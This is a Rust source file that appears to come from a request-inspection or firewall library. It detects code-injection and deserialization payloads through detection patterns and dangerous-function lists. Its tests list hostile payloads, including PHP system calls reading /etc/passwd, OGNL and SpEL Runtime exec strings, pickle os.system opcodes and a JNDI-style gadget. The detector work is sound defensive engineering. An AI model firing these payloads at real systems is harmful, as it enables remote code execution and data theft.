//! Code injection: PHP, Java, expression languages, Node and Python code, and
//! serialized objects.
//!
//! These payloads are code in a general-purpose language that some sink (`eval`, a
//! deserializer, an expression evaluator) runs. Their words (`system`, `exec`,
//! `Runtime`) are ordinary English or identifiers, so the detector looks for the
//! *syntax* that makes them code:
//!
//! * calls of functions that run commands or code, with a code-shaped argument:
//!   `system('id')`, `eval(base64_decode(…))`, `phpinfo()` — a bare word never fires;
//! * PHP open tags (`<?php`, `<?=`), PHP interpolation (`${@print(…)}`, `{${…}}`) and
//!   superglobals (`$_GET[`);
//! * Java reflection and process APIs (`Runtime.getRuntime()`, `Class.forName(`,
//!   `new ProcessBuilder`), OGNL (`#_memberAccess`, `@java.lang.Runtime@getRuntime`,
//!   `(#cmd=…)`), SpEL type references (`T(java.lang.Runtime)`);
//! * serialized-object headers: Java (`rO0AB`, `aced0005`), PHP (`O:8:"stdClass":1:{`,
//!   `a:2:{i:0;…`), .NET (`AAEAAAD/////`, `"$type":"System.…"`), Python pickle
//!   (`cos\nsystem`), YAML language tags (`!!python/object`), node-serialize
//!   (`_$$ND_FUNC$$_`);
//! * Node (`require('child_process')`, `process.mainModule`) and Python
//!   (`__import__('os')`, `subprocess.Popen(`) idioms.
//!
//! Every check is a forward scan over the value (and over its percent- and
//! form-decoded forms when the parser left it encoded), so time is linear in the input.

use super::Detection;
use super::bytes::{ByteSet, Pairs};
use super::jndi::{find, on_renderings};

/// Functions that run commands or code when given attacker text: fire on a call with
/// a code-shaped argument (a string, a variable, a nested call).
const EXEC_FUNCTIONS: &[&[u8]] = &[
    b"system",
    b"passthru",
    b"shell_exec",
    b"exec",
    b"popen",
    b"proc_open",
    b"pcntl_exec",
    b"eval",
    b"assert",
    b"create_function",
    b"call_user_func",
    b"call_user_func_array",
    b"preg_replace",
    b"file_get_contents",
    b"file_put_contents",
    b"readfile",
    b"show_source",
    b"highlight_file",
    b"fopen",
    b"include",
    b"include_once",
    b"require",
    b"require_once",
    b"base64_decode",
    b"gzinflate",
    b"gzuncompress",
    b"str_rot13",
    b"unserialize",
    b"execsync",
    b"spawnsync",
    b"execfile",
    b"__import__",
    b"spawn",
    b"popen2",
    b"popen3",
    b"capture2",
    b"capture3",
    b"register_shutdown_function",
];

/// Functions that call another function by name: `array_map('system', …)`.
const CALLBACK_TARGETS: &[&[u8]] = &[
    b"system",
    b"passthru",
    b"shell_exec",
    b"exec",
    b"popen",
    b"proc_open",
    b"assert",
    b"eval",
    b"call_user_func",
    b"call_user_func_array",
    b"create_function",
];

/// Functions whose call with no argument is a probe (`phpinfo()`).
const PROBE_FUNCTIONS: &[&[u8]] = &[
    b"phpinfo",
    b"phpversion",
    b"php_uname",
    b"get_current_user",
    b"posix_getuid",
    b"getmyuid",
];

/// Plain markers that are code in any context, with their confidence and name.
/// Matched case-insensitively.
const MARKERS: &[(&[u8], f64, &str)] = &[
    (b"<?php", 0.95, "php:open-tag"),
    (b"${@", 0.9, "php:interpolation"),
    (b"getruntime()", 0.9, "java:runtime"),
    (b"new processbuilder", 0.9, "java:processbuilder"),
    (b"processbuilder(", 0.85, "java:processbuilder"),
    (b"scriptenginemanager", 0.9, "java:script-engine"),
    (b"getenginebyname(", 0.9, "java:script-engine"),
    (b".forname(", 0.85, "java:reflection"),
    (b".getdeclaredconstructors(", 0.85, "java:reflection"),
    (b".getdeclaredmethod(", 0.85, "java:reflection"),
    (b".newinstance(", 0.8, "java:reflection"),
    (b"java.lang.runtime", 0.9, "java:runtime"),
    (b"java.lang.reflect.", 0.85, "java:reflection"),
    (b"#_memberaccess", 0.95, "ognl:member-access"),
    (b"@ognl.", 0.9, "ognl:static"),
    (b"ognlcontext", 0.9, "ognl:context"),
    (b"%{#", 0.85, "ognl:expression"),
    (b"%{(#", 0.85, "ognl:expression"),
    (b"#context[", 0.85, "ognl:context"),
    (b"!!python/", 0.9, "yaml:python"),
    (b"!!java", 0.9, "yaml:java"),
    (b"!!javax", 0.9, "yaml:java"),
    (b"!ruby/", 0.9, "yaml:ruby"),
    (b"!!js/", 0.9, "yaml:js"),
    (b"tag:yaml.org,2002:python", 0.9, "yaml:python"),
    (b"_$$nd_func$$_", 0.95, "node:serialize"),
    (b"'child_process'", 0.9, "node:child-process"),
    (b"\"child_process\"", 0.9, "node:child-process"),
    (b"child_process.exec", 0.9, "node:child-process"),
    (b"child_process.spawn", 0.9, "node:child-process"),
    (b"child_process.fork", 0.9, "node:child-process"),
    (b"process.mainmodule", 0.85, "node:process"),
    (b"process.binding(", 0.85, "node:process"),
    (b"constructor.constructor(", 0.85, "js:function-constructor"),
    (b"__builtins__", 0.8, "python:builtins"),
    (b"objectdataprovider", 0.85, "dotnet:object-data-provider"),
    (b"system.diagnostics.process", 0.9, "dotnet:process"),
    (b"language=\"php\"", 0.85, "php:script-tag"),
    (b"language='php'", 0.85, "php:script-tag"),
    (b"language=php", 0.85, "php:script-tag"),
    (b"global.process", 0.8, "node:process"),
    (b"new function(", 0.8, "js:function-constructor"),
    (b"class.module.classloader", 0.9, "java:classloader-binding"),
    (b"class.classloader", 0.9, "java:classloader-binding"),
    (b"invokertransformer", 0.9, "java:gadget"),
    (b"jdbcrowsetimpl", 0.9, "java:gadget"),
    (b"templatesimpl", 0.9, "java:gadget"),
    (b"java.beans.xmldecoder", 0.9, "java:xmldecoder"),
    (b"java.beans.eventhandler", 0.9, "java:gadget"),
    (b"\".execute(", 0.8, "groovy:execute"),
    (b"process.spawn(", 0.85, "ruby:process-spawn"),
    (b"@{[", 0.8, "perl:interpolation"),
    (b"'.execute(", 0.8, "groovy:execute"),
];

/// Superglobals: reading request data inside injected PHP.
const SUPERGLOBALS: &[&[u8]] = &[
    b"$_get",
    b"$_post",
    b"$_request",
    b"$_cookie",
    b"$_server",
    b"$_files",
    b"$_env",
    b"$_session",
    b"$globals",
];

/// Longest module name in [`PICKLE_MODULES`], plus one.
const MAX_MODULE: usize = 12;

/// Python modules whose functions a pickle's `GLOBAL` opcode loads to run commands.
const PICKLE_MODULES: &[&[u8]] = &[
    b"os",
    b"posix",
    b"nt",
    b"subprocess",
    b"builtins",
    b"__builtin__",
    b"commands",
    b"pty",
    b"platform",
    b"socket",
];

/// Python modules that run processes: `subprocess.Popen(…)`, `os.system(…)`.
const PROCESS_MODULES: &[&[u8]] = &[b"subprocess", b"os", b"commands", b"pty"];

/// Detects injected code or a serialized object in `input` (also read decoded once
/// more, for values the request parser leaves encoded).
pub fn code(input: &[u8]) -> Option<Detection> {
    on_renderings(input, detect)
}

/// The value a check reads: as received, ASCII-lower-cased, and the bytes of the
/// lower-cased copy (for the fast paths).
struct Text<'a> {
    input: &'a [u8],
    lower: &'a [u8],
    lower_set: ByteSet,
}

/// One check: reads the value and its lower-case copy.
type Check = fn(&Text<'_>) -> Option<Hit>;

/// Whether a check can find anything, from the bytes of the value (`raw`) and of its
/// lower-case copy (`lower`): `false` only when a byte or needle that every hit of the
/// check contains is missing.
type Gate = fn(ByteSet, ByteSet) -> bool;

/// Evidence: a confidence, the span that shows it, and the kind of code.
struct Hit {
    confidence: f64,
    start: usize,
    end: usize,
    fingerprint: &'static str,
}

/// Every check with its gate. Each gate names what every hit of its check contains:
/// the bytes of one of its needles, or the punctuation its scanner requires.
const CHECKS: [(Gate, Check); 16] = [
    // Some marker, all of whose bytes must occur.
    (
        |_, lower| MARKER_SETS.iter().any(|&m| lower.all_of(m)),
        markers,
    ),
    // `<?`.
    (|_, lower| lower.all_of(ByteSet::new(b"<?")), php_tags),
    // `{${` or a superglobal: all start with `$`.
    (|_, lower| lower.has(b'$'), php_variables),
    (|raw, _| raw.all_of(ByteSet::new(b"PD9waHA")), php_base64),
    // A name followed by `(`.
    (|_, lower| lower.has(b'('), calls),
    // A quoted name.
    (|_, lower| lower.has(b'\'') || lower.has(b'"'), callbacks),
    // A callee followed by `(`.
    (|_, lower| lower.has(b'('), dynamic_calls),
    (
        |_, lower| lower.all_of(ByteSet::new(b"(#")),
        ognl_assignment,
    ),
    (
        |_, lower| lower.all_of(ByteSet::new(b"@type")),
        type_property,
    ),
    (
        |_, lower| lower.all_of(ByteSet::new(b"java.lang.")),
        java_lang,
    ),
    (|raw, _| raw.has(b'@'), ognl_static),
    (|raw, _| raw.all_of(ByteSet::new(b"T(")), spel_type),
    (
        |raw, lower| raw.all_of(ByteSet::new(b"rO0AB")) || lower.all_of(ByteSet::new(b"aced0005")),
        java_serialized,
    ),
    // A `:` right after the type letter.
    (|raw, _| raw.has(b':'), php_serialized),
    (
        |raw, lower| raw.all_of(ByteSet::new(b"AAEAAAD/")) || lower.all_of(ByteSet::new(b"$type")),
        dotnet_serialized,
    ),
    // The `c` of the opcode and a newline, real or written `\n`.
    (
        |_, lower| lower.has(b'c') && (lower.has(b'\n') || lower.has(b'\\')),
        pickle,
    ),
];

/// The bytes of each of [`MARKERS`].
const MARKER_SETS: [ByteSet; MARKERS.len()] = {
    let mut sets = [ByteSet::EMPTY; MARKERS.len()];
    let mut i = 0;
    while i < MARKERS.len() {
        sets[i] = ByteSet::new(MARKERS[i].0);
        i += 1;
    }
    sets
};

/// The pairs of bytes of each of [`MARKERS`].
const MARKER_PAIRS: [Pairs; MARKERS.len()] = {
    let mut pairs = [Pairs::new(b""); MARKERS.len()];
    let mut i = 0;
    while i < MARKERS.len() {
        pairs[i] = Pairs::new(MARKERS[i].0);
        i += 1;
    }
    pairs
};

fn detect(input: &[u8]) -> Option<Detection> {
    // Fast path: the checks whose gate passes are the only ones that can hit; when
    // there are none, nothing is found (and the lower-case copy is not built).
    let raw = ByteSet::of(input);
    let lower_set = raw.lowercased();
    let mut live = CHECKS
        .iter()
        .filter(|(gate, _)| gate(raw, lower_set))
        .peekable();
    live.peek()?;
    let lower = input.to_ascii_lowercase();
    let text = Text {
        input,
        lower: &lower,
        lower_set,
    };
    let best =
        live.filter_map(|(_, check)| check(&text))
            .fold(None::<Hit>, |best, h| match best {
                Some(b) if b.confidence >= h.confidence => Some(b),
                _ => Some(h),
            })?;
    let fragment = input.get(best.start..best.end).unwrap_or(input);
    Some(Detection::new(best.confidence, fragment, best.fingerprint))
}

/// How many bytes after a marker go into the fragment.
const CONTEXT: usize = 40;

fn hit(confidence: f64, start: usize, len: usize, input: &[u8], fingerprint: &'static str) -> Hit {
    Hit {
        confidence,
        start,
        end: (start + len + CONTEXT).min(input.len()),
        fingerprint,
    }
}

fn is_ident(c: u8) -> bool {
    c.is_ascii_alphanumeric() || c == b'_'
}

fn ident_end(s: &[u8], mut i: usize) -> usize {
    while s.get(i).is_some_and(|&c| is_ident(c)) {
        i += 1;
    }
    i
}

/// Whether position `i` starts a word (the byte before is not part of an identifier).
fn word_start(s: &[u8], i: usize) -> bool {
    i == 0 || !s.get(i - 1).is_some_and(|&c| is_ident(c))
}

/// The strongest of the fixed markers.
fn markers(t: &Text<'_>) -> Option<Hit> {
    let (input, lower) = (t.input, t.lower);
    // A needle with a byte or a pair of bytes the value lacks cannot occur in it (the
    // pairs are computed only if some needle has all its bytes there).
    let pairs = std::cell::OnceCell::new();
    MARKERS
        .iter()
        .zip(MARKER_SETS)
        .zip(&MARKER_PAIRS)
        .filter(|&((_, set), needs)| {
            t.lower_set.all_of(set) && pairs.get_or_init(|| Pairs::of_lower(lower)).all_of(needs)
        })
        .filter_map(|((&(needle, confidence, name), _), _)| {
            find(lower, needle, 0).map(|p| hit(confidence, p, needle.len(), input, name))
        })
        .max_by(|a, b| a.confidence.total_cmp(&b.confidence))
}

/// `<?= $x ?>` and short `<? system(…) ?>` tags (`<?php` is a marker; `<?xml` is not code).
fn php_tags(t: &Text<'_>) -> Option<Hit> {
    let (input, lower) = (t.input, t.lower);
    let mut from = 0;
    while let Some(p) = find(lower, b"<?", from) {
        from = p + 2;
        let rest = lower.get(p + 2..).unwrap_or_default();
        let echo = rest.first() == Some(&b'=');
        let body = trim_start(rest.get(usize::from(echo)..).unwrap_or_default());
        let spaced = body.len() < rest.len() - usize::from(echo);
        if !(echo || spaced) {
            continue;
        }
        let variable = body.first() == Some(&b'$') && body.get(1).is_some_and(|&c| is_ident(c));
        let name_len = ident_end(body, 0);
        let call = name_len > 0 && body.get(name_len) == Some(&b'(');
        let backtick = body.first() == Some(&b'`');
        if variable || call || backtick {
            return Some(hit(0.85, p, 2, input, "php:short-tag"));
        }
    }
    None
}

fn trim_start(s: &[u8]) -> &[u8] {
    let n = s.iter().take_while(|c| c.is_ascii_whitespace()).count();
    s.get(n..).unwrap_or_default()
}

/// PHP variables that only injected code uses: `{${phpinfo()}}` interpolation and
/// request superglobals `$_GET[…]`.
fn php_variables(t: &Text<'_>) -> Option<Hit> {
    let (input, lower) = (t.input, t.lower);
    let mut from = 0;
    while let Some(p) = find(lower, b"{${", from) {
        let name_end = ident_end(lower, p + 3);
        if name_end > p + 3 && lower.get(name_end) == Some(&b'(') {
            return Some(hit(0.9, p, name_end - p, input, "php:interpolation"));
        }
        from = p + 1;
    }
    SUPERGLOBALS.iter().find_map(|&name| {
        let mut from = 0;
        while let Some(p) = find(lower, name, from) {
            let after = lower.get(p + name.len()).copied();
            // `$_GET['c']`, or the old brace form `$_GET{'c'}`.
            if matches!(after, Some(b'[' | b'{')) {
                return Some(hit(0.8, p, name.len(), input, "php:superglobal"));
            }
            from = p + 1;
        }
        None
    })
}

/// Calls of command/code-running functions: `system('id')`, `eval($_POST[x])`,
/// `assert(str_rot13(…))`, `phpinfo()`.
fn calls(t: &Text<'_>) -> Option<Hit> {
    let (input, lower) = (t.input, t.lower);
    let last_backtick = lower.iter().rposition(|&c| c == b'`');
    let mut i = 0;
    while i < lower.len() {
        if !lower
            .get(i)
            .is_some_and(|&c| c.is_ascii_alphabetic() || c == b'_')
            || !word_start(lower, i)
        {
            i += 1;
            continue;
        }
        let end = ident_end(lower, i);
        let name = lower.get(i..end).unwrap_or_default();
        if lower.get(end) == Some(&b'(') {
            let arg = lower.get(end + 1..).unwrap_or_default();
            // A backtick string runs a shell command in PHP, Perl and Ruby.
            if arg.first() == Some(&b'`') && last_backtick.is_some_and(|t| t > end + 1) {
                return Some(hit(0.8, i, end - i + 1, input, "call:backtick"));
            }
            if EXEC_FUNCTIONS.contains(&name) && code_argument(arg) {
                return Some(hit(0.85, i, end - i + 1, input, "call:exec"));
            }
            if PROBE_FUNCTIONS.contains(&name) && arg.first() == Some(&b')') {
                return Some(hit(0.8, i, end - i + 2, input, "call:probe"));
            }
            if process_module_call(lower, i) {
                return Some(hit(0.85, i, end - i + 1, input, "call:process-module"));
            }
        }
        i = end.max(i + 1);
    }
    None
}

/// An argument that is code rather than prose: a string, a variable, a command in
/// backticks or another call (`eval(base64_decode(…))`).
fn code_argument(arg: &[u8]) -> bool {
    let arg = trim_start(arg);
    match arg.first() {
        Some(b'\'' | b'"' | b'`') => true,
        Some(b'$') => arg.get(1).is_some_and(|&c| is_ident(c) || c == b'{'),
        Some(&c) if c.is_ascii_alphabetic() || c == b'_' => {
            let end = ident_end(arg, 0);
            arg.get(end) == Some(&b'(')
        }
        _ => false,
    }
}

/// `subprocess.Popen(`, `os.popen(`: a call on a process module (the identifier at
/// `i` is the method; the module precedes it with a dot).
fn process_module_call(lower: &[u8], i: usize) -> bool {
    let Some(dot) = i.checked_sub(1) else {
        return false;
    };
    if lower.get(dot) != Some(&b'.') {
        return false;
    }
    PROCESS_MODULES.iter().any(|&m| {
        dot.checked_sub(m.len())
            .is_some_and(|s| lower.get(s..dot) == Some(m) && word_start(lower, s))
    })
}

/// A command function passed by name as a callback: `array_map('system', …)`,
/// Twig's `['id']|filter('system')`.
fn callbacks(t: &Text<'_>) -> Option<Hit> {
    let (input, lower) = (t.input, t.lower);
    let mut i = 0;
    while let Some(&q) = lower.get(i) {
        if q != b'\'' && q != b'"' {
            i += 1;
            continue;
        }
        let name_end = ident_end(lower, i + 1);
        let name = lower.get(i + 1..name_end).unwrap_or_default();
        let closed = lower.get(name_end) == Some(&q);
        let before = (0..i)
            .rev()
            .find(|&j| !lower.get(j).is_some_and(u8::is_ascii_whitespace));
        let after = trim_start(lower.get(name_end + 1..).unwrap_or_default())
            .first()
            .copied();
        // First argument (`array_map('system', …)`) or last (`usort($a, 'system')`);
        // a word inside a JSON array (`["user", "system", …]`) is neither.
        let opener = before.and_then(|j| lower.get(j)).copied();
        let first_arg = opener == Some(b'(') && matches!(after, Some(b',' | b')'));
        let last_arg = opener == Some(b',') && after == Some(b')');
        if closed && (first_arg || last_arg) && CALLBACK_TARGETS.contains(&name) {
            return Some(hit(0.8, i, name.len() + 2, input, "call:callback"));
        }
        i = if closed { name_end + 1 } else { i + 1 };
    }
    None
}

/// PHP calls through a variable or a string: `$f('id')`, `$_GET['a']($_GET['b'])`,
/// `'system'('id')`, `"sys"."tem"('id')`.
fn dynamic_calls(t: &Text<'_>) -> Option<Hit> {
    let (input, lower) = (t.input, t.lower);
    let mut i = 0;
    while let Some(&c) = lower.get(i) {
        let callee_end = match c {
            b'$' if lower
                .get(i + 1)
                .is_some_and(|&n| n.is_ascii_alphabetic() || n == b'_') =>
            {
                skip_subscripts(lower, ident_end(lower, i + 1))
            }
            b'\'' | b'"' => {
                let end = ident_end(lower, i + 1);
                if end >= i + 3 && lower.get(end) == Some(&c) {
                    end + 1
                } else {
                    i + 1
                }
            }
            _ => i + 1,
        };
        let called = callee_end > i + 1 && lower.get(callee_end) == Some(&b'(');
        if called && code_argument(lower.get(callee_end + 1..).unwrap_or_default()) {
            return Some(hit(0.8, i, callee_end + 1 - i, input, "php:dynamic-call"));
        }
        i = callee_end.max(i + 1);
    }
    None
}

/// The index after `[…]` subscripts starting at `i` (`$_GET['a']['b']`), each at
/// most [`MAX_SUBSCRIPT`] bytes long.
fn skip_subscripts(s: &[u8], mut i: usize) -> usize {
    while s.get(i) == Some(&b'[') {
        let window = s
            .get(i + 1..(i + 1 + MAX_SUBSCRIPT).min(s.len()))
            .unwrap_or_default();
        match window.iter().position(|&c| c == b']') {
            Some(close) => i += close + 2,
            None => break,
        }
    }
    i
}

/// Longest `[…]` subscript skipped after a PHP variable.
const MAX_SUBSCRIPT: usize = 64;

/// OGNL variable assignment inside parentheses: `(#cmd='id')`, `(#dm=@ognl…)`.
fn ognl_assignment(t: &Text<'_>) -> Option<Hit> {
    let (input, lower) = (t.input, t.lower);
    let mut from = 0;
    while let Some(p) = find(lower, b"(#", from) {
        from = p + 1;
        let name_end = ident_end(lower, p + 2);
        let named = lower
            .get(p + 2)
            .is_some_and(|&c| c.is_ascii_alphabetic() || c == b'_');
        if named && lower.get(name_end) == Some(&b'=') && lower.get(name_end + 1) != Some(&b'=') {
            return Some(hit(0.8, p, name_end - p + 1, input, "ognl:assignment"));
        }
    }
    None
}

/// Polymorphic JSON deserialization naming a Java class: `"@type":"com.sun.…"`.
fn type_property(t: &Text<'_>) -> Option<Hit> {
    let (input, lower) = (t.input, t.lower);
    let p = find(lower, b"@type", 0)?;
    let rest = lower.get(p + 5..)?;
    let rest = rest
        .strip_prefix(b"\"")
        .or_else(|| rest.strip_prefix(b"'"))
        .unwrap_or(rest);
    let rest = trim_start(trim_start(rest).strip_prefix(b":")?);
    let rest = rest
        .strip_prefix(b"\"")
        .or_else(|| rest.strip_prefix(b"'"))?;
    let (_, dots) = qualified_name(rest, 0);
    (dots >= 2).then(|| hit(0.85, p, 5, input, "java:type-property"))
}

/// A `java.lang.` class other than the harmless value types.
fn java_lang(t: &Text<'_>) -> Option<Hit> {
    let (input, lower) = (t.input, t.lower);
    const DANGEROUS: &[&[u8]] = &[
        b"runtime",
        b"processbuilder",
        b"system",
        b"class",
        b"thread",
        b"classloader",
    ];
    let mut from = 0;
    while let Some(p) = find(lower, b"java.lang.", from) {
        let start = p + 10;
        let class = lower
            .get(start..ident_end(lower, start))
            .unwrap_or_default();
        if DANGEROUS.contains(&class) {
            return Some(hit(0.85, p, 10 + class.len(), input, "java:lang"));
        }
        from = p + 1;
    }
    None
}

/// OGNL static member access: `@java.lang.Runtime@getRuntime()`,
/// `@org.apache.commons.io.IOUtils@toString(…)`.
fn ognl_static(t: &Text<'_>) -> Option<Hit> {
    let input = t.input;
    let mut from = 0;
    while let Some(p) = find(input, b"@", from) {
        from = p + 1;
        let (end, dots) = qualified_name(input, p + 1);
        if dots >= 1 && input.get(end) == Some(&b'@') {
            let member_end = ident_end(input, end + 1);
            if member_end > end + 1 {
                return Some(hit(0.9, p, member_end - p, input, "ognl:static"));
            }
        }
    }
    None
}

/// The end of a dotted Java name starting at `i` and its number of dots.
fn qualified_name(s: &[u8], i: usize) -> (usize, usize) {
    let mut end = i;
    let mut dots = 0;
    while s.get(end).is_some_and(u8::is_ascii_alphabetic) {
        end = ident_end(s, end);
        if s.get(end) == Some(&b'.') && s.get(end + 1).is_some_and(u8::is_ascii_alphabetic) {
            dots += 1;
            end += 1;
        } else {
            break;
        }
    }
    (end, dots)
}

/// SpEL type reference: `T(java.lang.Runtime)`.
fn spel_type(t: &Text<'_>) -> Option<Hit> {
    let input = t.input;
    let mut from = 0;
    while let Some(p) = find(input, b"T(", from) {
        from = p + 1;
        if !word_start(input, p) {
            continue;
        }
        let body = p + 2;
        let skipped = input.len() - body - trim_start(input.get(body..).unwrap_or_default()).len();
        let (end, dots) = qualified_name(input, body + skipped);
        let close = trim_start(input.get(end..).unwrap_or_default()).first() == Some(&b')');
        if dots >= 1 && close {
            return Some(hit(0.9, p, end - p, input, "spel:type"));
        }
    }
    None
}

/// Java serialization stream header, base64 (`rO0AB`) or hex (`aced0005`).
fn java_serialized(t: &Text<'_>) -> Option<Hit> {
    let (input, lower) = (t.input, t.lower);
    let base64 = find_token_start(input, b"rO0AB", is_base64);
    let hex = find_token_start(lower, b"aced0005", |c| c.is_ascii_hexdigit());
    base64
        .map(|p| hit(0.9, p, 5, input, "java:serialized"))
        .or_else(|| hex.map(|p| hit(0.9, p, 8, input, "java:serialized-hex")))
}

/// `<?php` encoded in base64 (`PD9waHA`), as sent through `data://` or `php://filter`.
fn php_base64(t: &Text<'_>) -> Option<Hit> {
    let input = t.input;
    find_token_start(input, b"PD9waHA", is_base64)
        .map(|p| hit(0.9, p, 7, input, "php:base64-open-tag"))
}

fn is_base64(c: u8) -> bool {
    c.is_ascii_alphanumeric() || c == b'+' || c == b'/'
}

/// The first occurrence of `needle` not preceded by a byte of the same encoding.
fn find_token_start(s: &[u8], needle: &[u8], same: fn(u8) -> bool) -> Option<usize> {
    let mut from = 0;
    while let Some(p) = find(s, needle, from) {
        if p == 0 || !s.get(p - 1).is_some_and(|&c| same(c)) {
            return Some(p);
        }
        from = p + 1;
    }
    None
}

/// PHP `serialize()` output: an object `O:8:"stdClass":1:{…` (or custom `C:`), or an
/// array `a:2:{i:0;…` with typed members.
fn php_serialized(t: &Text<'_>) -> Option<Hit> {
    let input = t.input;
    // Every hit has `:` right after its tag letter: visit those positions only, in
    // order (`i` is the byte before each `:`).
    let colons = input
        .iter()
        .enumerate()
        .skip(1)
        .filter(|&(_, &b)| b == b':');
    for (colon, _) in colons {
        let i = colon - 1;
        let c = input[i];
        let boundary = word_start(input, i);
        let tagged = boundary && input.get(i + 1) == Some(&b':');
        if tagged
            && matches!(c, b'O' | b'C')
            && let Some(end) = php_object_header(input, i + 2)
        {
            return Some(hit(0.9, i, end - i, input, "php:serialized-object"));
        }
        if tagged
            && c == b'a'
            && let Some(end) = php_array_header(input, i + 2)
        {
            return Some(hit(0.75, i, end - i, input, "php:serialized-array"));
        }
    }
    None
}

fn digits_end(s: &[u8], mut i: usize) -> usize {
    while s.get(i).is_some_and(u8::is_ascii_digit) {
        i += 1;
    }
    i
}

/// After `O:`: `8:"stdClass":1:{`; returns the index after `{`.
fn php_object_header(s: &[u8], i: usize) -> Option<usize> {
    // `O:+8:` is accepted by unserialize() and used to slip past `O:\d` filters.
    let i = if s.get(i) == Some(&b'+') { i + 1 } else { i };
    let len_end = digits_end(s, i);
    (len_end > i && s.get(len_end..len_end + 2)? == b":\"").then_some(())?;
    let name_start = len_end + 2;
    let mut name_end = name_start;
    while s.get(name_end).is_some_and(|&c| is_ident(c) || c == b'\\') {
        name_end += 1;
    }
    (name_end > name_start && s.get(name_end..name_end + 2)? == b"\":").then_some(())?;
    let count_end = digits_end(s, name_end + 2);
    (count_end > name_end + 2 && s.get(count_end..count_end + 2)? == b":{").then_some(count_end + 2)
}

/// After `a:`: `2:{i:0;` (or `s:`, `O:`, `a:`, `}`); returns the index after the member tag.
fn php_array_header(s: &[u8], i: usize) -> Option<usize> {
    let count_end = digits_end(s, i);
    (count_end > i && s.get(count_end..count_end + 2)? == b":{").then_some(())?;
    let member = count_end + 2;
    let typed = matches!(s.get(member), Some(b'i' | b's' | b'O' | b'a' | b'b' | b'd'))
        && s.get(member + 1) == Some(&b':');
    let empty = s.get(member) == Some(&b'}');
    (typed || empty).then_some(member + 1)
}

/// .NET BinaryFormatter base64 header and Json.NET `$type` gadgets.
fn dotnet_serialized(t: &Text<'_>) -> Option<Hit> {
    let (input, lower) = (t.input, t.lower);
    if let Some(p) = find(input, b"AAEAAAD/////", 0) {
        return Some(hit(0.9, p, 12, input, "dotnet:binaryformatter"));
    }
    let p = find(lower, b"$type", 0)?;
    let value = trim_start(lower.get(p + 5..)?);
    let value = value
        .strip_prefix(b"\"")
        .or_else(|| value.strip_prefix(b"'"))
        .unwrap_or(value);
    let value = trim_start(value.strip_prefix(b":")?);
    let value = value
        .strip_prefix(b"\"")
        .or_else(|| value.strip_prefix(b"'"))
        .unwrap_or(value);
    value
        .starts_with(b"system.")
        .then(|| hit(0.85, p, 5, input, "dotnet:type"))
}

/// Python pickle `GLOBAL` opcode loading a process function: `cos\nsystem\n`
/// (also written with a literal `\n`).
fn pickle(t: &Text<'_>) -> Option<Hit> {
    let (input, lower) = (t.input, t.lower);
    let mut from = 0;
    while let Some(p) = find(lower, b"c", from) {
        from = p + 1;
        let before = p.checked_sub(2).and_then(|b| lower.get(b..p));
        let boundary = p == 0
            || matches!(lower.get(p - 1), Some(b'\n' | b'(' | b'.'))
            || before == Some(b"\\n");
        if !boundary {
            continue;
        }
        // Module names are short: a bounded scan keeps runs of `c` linear.
        let window = lower
            .get(p + 1..(p + 1 + MAX_MODULE).min(lower.len()))
            .unwrap_or_default();
        let module_end = p + 1 + window.iter().take_while(|&&c| is_ident(c)).count();
        let module = lower.get(p + 1..module_end).unwrap_or_default();
        if !PICKLE_MODULES.contains(&module) {
            continue;
        }
        let Some(func_start) = after_newline(lower, module_end) else {
            continue;
        };
        let func_end = ident_end(lower, func_start);
        if func_end > func_start && after_newline(lower, func_end).is_some() {
            return Some(hit(0.9, p, func_end - p, input, "python:pickle"));
        }
    }
    None
}

/// The index after a newline (real or written `\n`) at `i`.
fn after_newline(s: &[u8], i: usize) -> Option<usize> {
    let rest = s.get(i..)?;
    if rest.starts_with(b"\n") {
        Some(i + 1)
    } else if rest.starts_with(b"\\n") {
        Some(i + 2)
    } else {
        None
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::test_support::{self, Hostile};

    #[test]
    fn attacks() {
        let cases: &[&[u8]] = &[
            b"<?php system($_GET['c']); ?>",
            b"<?= `id` ?>",
            b";system('id')",
            b"system('cat /etc/passwd');",
            b"eval('ls')",
            b"exec('pwd')",
            b"phpinfo()",
            b";phpinfo();//",
            b"| phpinfo()",
            b":phpversion();",
            b"{${sleep(20)}}",
            b"${@print(md5(RCEVulnerable))}",
            b";{$_GET[\"cmd\"]}",
            b"eval(base64_decode('ZWNobyAx'))",
            b"assert($_POST[x])",
            b"java.lang.Runtime.getRuntime().exec(\"id\")",
            b"new ProcessBuilder(\"id\").start()",
            b"''.getClass().forName('java.lang.Runtime')",
            b"%{(#_memberAccess['allowStaticMethodAccess']=true)}",
            b"@java.lang.Runtime@getRuntime().exec('id')",
            b"T(java.lang.Runtime).getRuntime()",
            b"T( org.springframework.Foo )",
            b"rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ",
            b"aced0005737200",
            b"O:8:\"stdClass\":1:{s:1:\"a\";i:1;}",
            b"a:2:{i:0;s:1:\"a\";i:1;s:1:\"b\";}",
            b"AAEAAAD/////AQAAAAAAAAAMAgAAAF9TeXN0ZW0u",
            b"{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\"}",
            b"cos\nsystem\n(S'id'\ntR.",
            b"cos\\nsystem\\n(S'id'\\ntR.",
            b"!!python/object/apply:os.system [\"id\"]",
            b"require('child_process').exec('id')",
            b"{\"rce\":\"_$$ND_FUNC$$_function(){}()\"}",
            b"array_map('system', array('id'))",
            b"{{['id']|filter('system')}}",
            b"(#cmd='id').(#iswin=(@java.lang.System@getProperty('os.name')))",
            b"{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://x/a\"}",
            b"class.module.classLoader.resources.context.parent.pipeline.first.pattern",
            b"PD9waHAgc3lzdGVtKCdpZCcpOyA/Pg==",
            b"O:+8:\"stdClass\":1:{}",
            b"\"id\".execute().text",
            b"print(`id`);",
            b"$_GET['a']($_GET['b'])",
            b"$f('id');",
            b"'system'('id')",
            b"\"sys\".\"tem\"('id')",
            b"@{[system \"id\"]}",
            b"Process.spawn(\"id\")",
            b"System.Diagnostics.Process.Start(\"cmd.exe\")",
            b"__import__('os').system('id')",
            b"subprocess.Popen(['id'])",
            b"os.popen('id').read()",
            b"%3C%3Fphp%20system(%27id%27)%3B",
        ];
        test_support::assert_detects_all(code, cases);
    }

    #[test]
    fn benign() {
        let cases: &[&[u8]] = &[
            b"O'Reilly and sons",
            b"select a size",
            b"1 or 2 items",
            b"rock & roll",
            b":-) ;-) (^_^) <3",
            b"C++ Primer (5th Edition) by Lippman",
